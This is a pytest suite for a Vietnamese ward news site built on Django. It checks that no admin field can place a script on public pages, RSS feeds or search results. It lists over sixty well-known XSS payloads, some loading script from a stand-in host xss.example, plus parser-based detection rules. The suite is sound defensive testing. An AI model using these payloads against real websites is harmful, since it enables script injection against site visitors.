"""No input through any admin field puts a script on a public page.

Well-known attack strings (OWASP's filter evasion cheat sheet and its kin:
entity- and whitespace-disguised javascript: URLs, SVG and MathML namespace
confusion, mutation XSS, polyglots) go into every field staff can fill in:
an article's title, lead, body and picture description, a category's name
and description, the ward's name, address, official and introduction. The
reader pages, search, the RSS feeds and the ward pages are then read with a
parser: no script but the site's own, no event handler, no javascript:,
vbscript: or data: URL, no frame, object, <base> or refreshing <meta>.

The parser is Python's, not a browser's; the vectors built on how browsers
re-parse markup (mXSS) are also opened in Chromium (marker `browser`),
where no alert may ever fire.
"""

import json
import re
import xml.etree.ElementTree as ElementTree
from datetime import timedelta
from html import unescape
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

from articles.models import Article

from .conftest import article_form, png_bytes
from .test_editor import new_page  # noqa: F401 - a fixture.

# A word every filled-in article carries, for the search page to find it.
MARK = "phuongtinxss"

VECTORS = [
    # Scripts, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '</script><script>alert(1)</script>{"a":"',
    "<!--<script>--></script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<p onclick="alert(1)">x</p>',
    "<x onclick=alert(1)>x</x>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<a href="#" onmouseover="alert(1)">x</a>',
    # javascript: and other URLs, disguised every way browsers forgive.
    '<a href="javascript:alert(1)">x</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61"
    "&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<isindex action="javascript:alert(1)" type=image>',
    # Frames, objects, the page's own base and refresh.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src=//xss.example/></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://xss.example/x.sct"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    # Styles.
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="background-image: url(javascript:alert(1))">x</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="behavior: url(xss.htc); -moz-binding: url(xss.xml#x)">x</p>',
    # SVG and MathML: namespace confusion and mutation XSS.
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />"
    "<a id=x><text x=20 y=20>x</text></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<select><template><style><!--</style><a rel="--></style></template>'
    '</select><img src=x onerror=alert(1)>">',
    # Polyglots.
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
]

# The vectors a browser may read otherwise than Python's parser does.
BROWSER_VECTORS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<select><template><style><!--</style><a rel="--></style></template>'
    '</select><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '</script><script>alert(1)</script>{"a":"',
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster",
    "background", "srcset", "ping", "codebase", "cite", "longdesc", "lowsrc",
    "dynsrc", "manifest", "icon", "values", "to", "from",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
BAD_STYLE = re.compile(r"expression\s*\(|javascript:|behavior\s*:|-moz-binding|@import")


def url_scheme(name: str, value: str) -> str:
    """The dangerous scheme a URL attribute starts with, as a browser reads
    it: entities decoded, control characters and spaces dropped, any case
    (each URL of a srcset, each value of an SVG animation)."""
    value = re.sub(r"[\x00-\x20]", "", unescape(value)).lower()
    urls = value.split({"srcset": ",", "values": ";"}.get(name, "\x00"))
    return next((s for url in urls for s in BAD_SCHEMES if url.startswith(s)), "")


class ScriptFinder(HTMLParser):
    """What in a page could run a script, with where it was found."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_body = False
        self.script = None  # (attributes, text) of the open <script>.
        self.style = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "body":
            self.in_body = True
        where = f"<{tag} {attrs}>"
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} in {where}")
            if name in URL_ATTRIBUTES and url_scheme(name, value or ""):
                self.problems.append(f"{url_scheme(name, value)} URL in {where}")
            if name == "style" and BAD_STYLE.search(unescape(value or "")):
                self.problems.append(f"style that runs code in {where}")
        if tag in NEVER:
            self.problems.append(f"{where}")
        if tag == "meta" and self.in_body:
            self.problems.append(f"<meta> in the body: {where}")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"refreshing or redirecting meta: {where}")
        if tag == "link" and (attributes.get("rel") or "").lower() == "import":
            self.problems.append(f"HTML import: {where}")
        if tag == "script":
            self.script = (attributes, [])
        if tag == "style":
            self.style = []

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_data(self, data):
        if self.script is not None:
            self.script[1].append(data)
        if self.style is not None:
            self.style.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self.script is not None:
            attributes, text = self.script
            self.script = None
            self.check_script(attributes, "".join(text))
        if tag == "style" and self.style is not None:
            if BAD_STYLE.search("".join(self.style)):
                self.problems.append(f"style sheet that runs code: {self.style}")
            self.style = None

    def check_script(self, attributes, text):
        """Only the site's own: a file of ours, or our JSON-LD (valid JSON,
        with no "<" a browser could read as a tag)."""
        src = attributes.get("src")
        if src is not None:
            if not src.startswith("/static/") or text.strip():
                self.problems.append(f"script {attributes} {text[:80]!r}")
            return
        if attributes.get("type") == "application/ld+json":
            try:
                json.loads(text)
            except ValueError:
                self.problems.append(f"JSON-LD broken open: {text[:120]!r}")
            if "<" in text:
                self.problems.append(f"unescaped < in JSON-LD: {text[:120]!r}")
            return
        self.problems.append(f"inline script: {text[:120]!r}")


def script_problems(html: str) -> list[str]:
    finder = ScriptFinder()
    finder.feed(html)
    finder.close()
    if finder.script is not None:  # A <script> never closed swallows the page.
        finder.problems.append("a script left open")
    return finder.problems


def feed_problems(xml: str) -> list[str]:
    """A feed reader shows an item's description as HTML (RSS 2.0: "entity-
    encoded HTML"); titles and the channel's own description are text."""
    problems = []
    root = ElementTree.fromstring(xml.encode())
    for item in root.iter("item"):
        for element in item:
            if element.text and element.tag.endswith(("description", "encoded")):
                problems += script_problems(element.text)
    return problems


def with_fallback(obj, **values):
    """Sets the values; those the admin would refuse (its forms run the
    same validation) go back to what they were, as a form left unsaved."""
    before = {name: getattr(obj, name) for name in values}
    for name, value in values.items():
        setattr(obj, name, value)
    try:
        obj.full_clean()
    except ValidationError as error:
        for name in error.message_dict:
            if name in before:
                setattr(obj, name, before[name])
    obj.save()
    return obj


def field_names(model):
    return {field.name for field in model._meta.get_fields()}


@pytest.fixture
def everything(ward, category):
    """Every field staff fill in that readers are shown, holding the vector;
    returns the public pages to read."""

    def fill(vector):
        with_fallback(
            ward,
            name=f"Phường Hòa Bình {vector}"[:200],
            address=f"Số 1 {vector}",
            responsible_person=f"Ông A {vector}",
            introduction=f"<p>Giới thiệu {vector}</p>{vector}",
            map_url=vector,
            phone=vector[:50],
            email=vector,
        )
        with_fallback(
            category,
            name=f"Chuyên mục {vector}"[:100],
            description=f"Mô tả {vector}",
        )
        extra = {}
        if "featured_image_caption" in field_names(Article):
            extra = {
                "featured_image_alt": f"Ảnh {vector}"[:300],
                "featured_image_caption": f"Chú thích {vector}"[:300],
            }
        article = Article(
            category=category,
            status=Article.Status.PUBLISHED,
            published_at=timezone.now() - timedelta(hours=1),
            featured_image=ContentFile(png_bytes((1200, 675)), "anh.png"),
        )
        with_fallback(
            article,
            title=f"Tin {MARK} {vector}"[:255],
            lead=f"Sapo {MARK} {vector}",
            body=f"<p>Nội dung {MARK} {vector}</p>{vector}<p>{vector}</p>",
            **extra,
        )
        return pages_of(article)

    return fill


def pages_of(article):
    category = article.category
    return {
        "html": [
            "/",
            article.get_absolute_url(),
            category.get_absolute_url(),
            f"{reverse('articles:search')}?q={MARK}",
            "/gioi-thieu/",
            "/lien-he/",
        ],
        "feeds": ["/rss/", category.get_absolute_url() + "rss/"],
    }


def assert_no_scripts(reader, pages, vector):
    for url in pages["html"]:
        response = reader.get(url)
        assert response.status_code == 200, url
        problems = script_problems(response.content.decode())
        assert not problems, f"{vector!r} on {url}: {problems}"
    for url in pages["feeds"]:
        response = reader.get(url)
        assert response.status_code == 200, url
        problems = feed_problems(response.content.decode())
        assert not problems, f"{vector!r} in {url}: {problems}"


def test_there_are_enough_vectors():
    assert len(set(VECTORS)) >= 50


def test_the_checker_sees_what_it_looks_for():
    """Each rule of the checker fails a page that breaks it."""
    dirty = [
        "<script>alert(1)</script>",
        '<script src="https://xss.example/a.js"></script>',
        '<script type="application/ld+json">{"a": "</script><script>x</script>',
        '<img src=x onerror="alert(1)">',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="DATA:text/html,x">x</a>',
        '<form action=" javascript:x"></form>',
        '<svg><a xlink:href="javascript:x"></a></svg>',
        "<iframe></iframe>",
        '<base href="/">',
        '<body><meta http-equiv="refresh" content="0;url=/x">',
        '<p style="width:expression(alert(1))">x</p>',
    ]
    for html in dirty:
        assert script_problems(html), html
    clean = (
        '<script src="/static/js/site.js" defer></script>'
        '<script type="application/ld+json">{"a": "\\u003C/script\\u003E"}</script>'
        '<a href="https://hanoi.gov.vn/">x</a><p>javascript:alert(1) as text</p>'
    )
    assert script_problems(clean) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_no_admin_field_carries_a_script_to_a_public_page(everything, reader, vector):
    pages = everything(vector)
    assert_no_scripts(reader, pages, vector)


ADD_URL = "/admin/articles/article/add/"


@pytest.mark.parametrize("vector", VECTORS[::6])
def test_the_admin_form_carries_no_script_to_a_public_page(
    client, editor, category, reader, vector
):
    """Through the admin's own add form (as conftest's article_form fills
    it in, posted by a superuser), for a sample of the vectors."""
    client.force_login(editor)
    response = client.post(
        ADD_URL,
        article_form(
            category,
            title=f"Tin {MARK} {vector}"[:255],
            lead=f"Sapo {MARK} {vector}",
            body=f"<p>Nội dung {MARK}</p>{vector}",
        ),
    )
    if response.status_code == 200:
        # A vector with a picture from elsewhere: the form refuses it, with
        # staff's message, and nothing is saved.
        assert "ảnh lấy từ nơi khác" in response.text
        assert not Article.objects.exists()
        return
    assert response.status_code == 302, response.content.decode()[:2000]
    article = Article.objects.get()
    # However the newsroom publishes, readers are shown it.
    Article.objects.filter(pk=article.pk).update(
        status=Article.Status.PUBLISHED,
        published_at=timezone.now() - timedelta(hours=1),
    )
    assert_no_scripts(reader, pages_of(article), vector)


# In a real Chromium.


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_alert_ever_fires_in_a_browser(
    new_page,  # noqa: F811 - the fixture imported above.
    live_server,
    ward,
    category,
):
    from playwright.sync_api import expect

    body = "".join(f"<p>Đoạn {n}.</p>{v}" for n, v in enumerate(BROWSER_VECTORS))
    article = Article.objects.create(
        category=category,
        title=f"Tin {MARK} " + BROWSER_VECTORS[0],
        lead=f"Sapo {MARK} " + BROWSER_VECTORS[-1],
        body=body,
        status=Article.Status.PUBLISHED,
        published_at=timezone.now() - timedelta(hours=1),
    )
    ward.introduction = body
    ward.save()
    dialogs = []
    page = new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for url in [
        article.get_absolute_url(),
        "/",
        f"{reverse('articles:search')}?q={MARK}",
        "/gioi-thieu/",
    ]:
        page.goto(live_server.url + url)
        expect(page.locator("main")).to_be_visible()
        # What a reader does: moves over, clicks into and tabs through it.
        page.mouse.move(200, 300)
        page.mouse.move(600, 500)
        for _ in range(8):
            page.keyboard.press("Tab")
        page.wait_for_timeout(300)
    assert dialogs == []
